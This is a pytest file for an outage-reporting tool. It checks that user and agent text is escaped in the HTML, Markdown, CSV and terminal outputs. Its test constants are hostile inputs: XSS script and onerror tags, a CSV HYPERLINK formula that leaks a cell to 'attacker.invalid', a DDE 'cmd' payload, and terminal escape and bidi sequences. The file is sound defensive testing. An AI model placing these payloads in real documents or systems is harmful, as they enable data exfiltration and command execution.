"""Text from people and agents leaves as text: no live HTML in the reports, no formula in
the CSV, no escape sequence on a terminal (issue 15)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest

from availmon.cli import main
from availmon.config import Estate, parse_config
from availmon.text import csv_cell, markdown, terminal
from collector.accounting import parse_period
from collector.report import build_report, render
from collector.store import Store
from tests.collector.helpers import LONDON, estate_data, outage, store_row

NOW = datetime(2026, 1, 1, tzinfo=UTC)
SCRIPT = "</td><script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31mred"


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def hostile_estate() -> Estate:
    data = estate_data()
    data["name"] = f"Estate {SCRIPT}"
    data["partners"]["CCC"]["name"] = f"City {IMG}"
    data["areas"] = {"email": {"name": f"Email {SCRIPT}"}}
    return parse_config(data, "test")


def hostile_report(store: Store, estate: Estate) -> dict[str, object]:
    rows = [
        store_row(
            outage(
                "email",
                "2019-07-09T10:00",
                "2019-07-09T12:00",
                site="ccc-guildhall",
                cause=SCRIPT,
                provider=IMG,
                note=f"{FORMULA} | *bold* [link](javascript:alert(3))",
            )
        ),
        store_row(
            outage(
                "servers",
                "2019-08-01T10:00",
                "2019-08-01T11:00",
                cause=DDE,
                provider="@SUM(1+1)",
                note="+1-1",
            )
        ),
    ]
    store.import_outages(rows)
    return build_report(store, estate, parse_period("FY2019Q2", LONDON), NOW)


def test_html_report_has_no_live_markup_from_data(store: Store) -> None:
    html = render("html", hostile_report(store, hostile_estate()))
    page = Tags()
    page.feed(html)
    assert "script" not in page.tags
    assert "img" not in page.tags
    assert "onerror" not in page.attrs
    text = "".join(page.text)
    # Shown as the text people typed, in the title, headings, tables and notes.
    assert SCRIPT in text
    assert IMG in text
    assert "&lt;script&gt;" in html


def test_markdown_report_passes_no_raw_html_or_syntax(store: Store) -> None:
    md = render("md", hostile_report(store, hostile_estate()))
    assert "<script" not in md
    assert "<img" not in md
    assert "&lt;script&gt;" in md
    assert "[link](" not in md
    # Every table row has as many cells as its header: a "|" in a note cannot add one.
    tables: list[list[str]] = []
    for line in md.splitlines():
        if line.startswith("|"):
            tables[-1:] = [[*tables[-1], line]] if tables and tables[-1] else [[line]]
        elif tables and tables[-1]:
            tables.append([])

    def cells(row: str) -> int:
        return row.replace("\\|", "").count("|")

    for table in filter(None, tables):
        assert {cells(row) for row in table} == {cells(table[0])}, table


def test_csv_report_cells_never_start_a_formula(store: Store) -> None:
    text = render("csv", hostile_report(store, hostile_estate()))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert "'" + DDE in cells
    assert "'@SUM(1+1)" in cells
    assert "'+1-1" in cells


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("a\rb\r\nc", "a\nb\nc"),
        ("1=1", "1=1"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_cell(value: str | None, shown: str) -> None:
    assert csv_cell(value) == shown


def test_markdown_and_terminal_helpers() -> None:
    assert markdown("a|b\nc <b>&</b> *x* `y` [z]") == (
        "a\\|b c &lt;b&gt;&amp;&lt;/b&gt; \\*x\\* \\`y\\` \\[z\\]"
    )
    assert markdown("2019-07-01 (Mon) #1") == "2019-07-01 (Mon) #1"
    assert terminal(ESC) == "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mred"
    assert terminal("caf\u00e9 \u202eevil") == "caf\u00e9 \\u202eevil"  # bidi override


def import_hostile(config_file: Path, tmp_path: Path) -> Path:
    csv_file = tmp_path / "hostile.csv"
    with csv_file.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["site", "area", "check", "start", "end", "kind", "cause", "provider", "note"])
        w.writerow(
            [
                "dc",
                "email",
                "webmail",
                "2019-07-09T10:05",
                "2019-07-09T11:17",
                "unplanned",
                ESC,
                "\u202eGamma",
                "line one\nline two",
            ]
        )
    assert main(["outages", "import", str(csv_file), "--config", str(config_file)]) == 0
    return csv_file


def test_outages_list_prints_no_escape_sequences(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import_hostile(config_file, tmp_path)
    capsys.readouterr()
    assert main(["outages", "list", "--period", "FY2019Q2", "--config", str(config_file)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\u202e" not in out
    assert "\\x1b]0;owned" in out
    assert len(out.splitlines()) == 3  # header, the outage, the count: no embedded newline


def test_annotate_echo_prints_no_escape_sequences(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import_hostile(config_file, tmp_path)
    store = Store(tmp_path / "cli.db")
    try:
        oid = store.outages()[0]["id"]
    finally:
        store.close()
    capsys.readouterr()
    argv = ["outages", "annotate", oid, "--note", f"{SCRIPT}{ESC}", "--config", str(config_file)]
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert len(out.splitlines()) == 1
